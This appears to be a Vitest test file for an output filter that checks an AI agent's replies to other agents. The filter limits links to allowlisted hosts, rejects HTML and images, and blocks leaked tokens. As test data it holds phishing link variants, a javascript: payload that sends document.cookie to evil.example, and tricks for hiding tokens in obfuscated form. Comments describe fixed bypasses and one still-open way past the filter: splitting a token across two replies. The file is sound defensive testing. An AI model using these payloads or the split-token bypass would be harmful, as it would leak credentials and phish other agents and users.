import { beforeAll, describe, expect, it } from "vitest";
import type { Rig } from "./support.ts";
import { fake, kinds, rig, splitToken } from "./support.ts";

/**
 * A brain's free-text reply goes to another agent, which may render it as Markdown or follow
 * its links. Links may point only to `replies.link_hosts` (github.com by default); no HTML, no
 * images, no secret.
 */
let r: Rig;
beforeAll(async () => {
  r = await rig();
});

async function replyVerdict(body: string) {
  const plan = await r.plan([{ kind: "reply", body }]);
  return { kinds: kinds(plan), entry: plan.proposed[0] };
}

describe("reply links", () => {
  it("allows a plain reply with a github.com link (baseline)", async () => {
    expect((await replyVerdict("See https://github.com/acme/ops/blob/main/playbooks/api-tokens.md")).kinds).toEqual(["reply", "mark_read"]);
  });

  it.each([
    ["a markdown link with an allowlisted text", "[github.com](https://evil.example/login)"],
    ["an autolink", "<https://evil.example/login>"],
    ["a look-alike subdomain", "https://github.com.evil.example/login"],
    ["credentials before the host", "https://github.com@evil.example/login"],
    ["a backslash authority", "https://evil.example\\@github.com/"],
    ["a punycode homograph", "https://xn--gthub-n4a.com/login"],
    ["an IDN homograph", "https://g\u0456thub.com/login"],
    ["a zero-width space in the host", "https://git\u200bhub.com.evil.example/"],
    ["an upper-case scheme", "HTTPS://EVIL.EXAMPLE/"],
    ["a bare www host", "www.evil.example/login"],
    ["an IP literal", "http://127.0.0.1:8080/admin"],
    ["a percent-encoded host", "https://%65vil.example/"],
    ["a data: URI with slashes", "data://text/html,hi"],
    ["an ftp link", "ftp://evil.example/x"],
    ["an image", "![status](https://github.com/x.png)"],
    ["an HTML tag", "<a href=https://github.com>x</a>"],
    ["an HTML comment", "hi <!-- hidden -->"],
    ["an iframe without attributes", "<iframe>"],
  ])("refuses %s", async (_what, body) => {
    const { kinds: run, entry } = await replyVerdict(`Please go to ${body} now.`);
    expect(run).toEqual(["escalate", "mark_read"]);
    expect(entry?.rule).toBe("reply-format");
  });

  // Fixed (was a bypass): a Markdown link target without `//` was not seen as a link at all.
  // Every Markdown link target must now be an absolute https URL on an allowlisted host, and
  // script, data and mail schemes are refused anywhere.
  it.each([
    ["javascript: URL", "[github.com](javascript:fetch('//evil.example/'+document.cookie))"],
    ["protocol-relative URL", "[github.com](//evil.example/login)"],
    ["scheme without slashes", "[github.com](https:evil.example/login)"],
    ["data: URI", "[github.com](data:text/html,%3Cscript%3Ealert(1)%3C/script%3E)"],
    ["reference-style link", "[github.com][1]\n\n[1]: //evil.example/login"],
    ["mailto phishing", "[security@github.com](mailto:security@evil.example)"],
  ])("refuses a Markdown link with a %s", async (_what, body) => {
    const { kinds: run } = await replyVerdict(`Please go to ${body} now.`);
    expect(run).toEqual(["escalate", "mark_read"]);
  });

  // Fixed (was a bypass): the element list now covers the obsolete and rarely used elements too.
  it.each([["<plaintext>"], ["<xmp>"], ["<dialog open>"], ["<center>"]])("refuses the HTML element %s", async (tag) => {
    const { kinds: run } = await replyVerdict(`hi ${tag} there`);
    expect(run).toEqual(["escalate", "mark_read"]);
  });
});

describe("reply secrets", () => {
  it.each([
    ["a plain token", () => fake.githubToken()],
    ["a token split by zero-width spaces", () => splitToken("\u200b")],
    ["a token split by soft hyphens", () => splitToken("\u00ad")],
    ["a token in full-width letters", () => [...fake.githubToken()].map((c) => String.fromCharCode(c.charCodeAt(0) + 0xfee0)).join("")],
  ])("refuses a reply with %s", async (_what, token) => {
    const { kinds: run, entry } = await replyVerdict(`here you go: ${token()}`);
    expect(run).toEqual(["escalate", "mark_read"]);
    expect(entry?.rule).toBe("outbound-secret");
  });

  // Fixed (was a bypass): control characters are now removed by the scanner's normaliser.
  it.each([["NUL", "\u0000"], ["C1 PAD", "\u0080"]])("refuses a reply with a token split by %s characters", async (_name, char) => {
    const { kinds: run } = await replyVerdict(`here you go: ${splitToken(char)}`);
    expect(run).toEqual(["escalate", "mark_read"]);
  });

  // BYPASS (low, inherent to per-text scanning): each reply is scanned alone, so a token cut in
  // two replies (or a reply and an escalation reason) passes; the recipient joins them.
  it.fails("refuses a token spread over two replies to the same message", async () => {
    const token = fake.githubToken();
    const plan = await r.plan([
      { kind: "reply", body: `part one: ${token.slice(0, 19)}` },
      { kind: "reply", body: `part two: ${token.slice(19)}` },
    ]);
    expect(kinds(plan)).not.toContain("reply");
  });
});
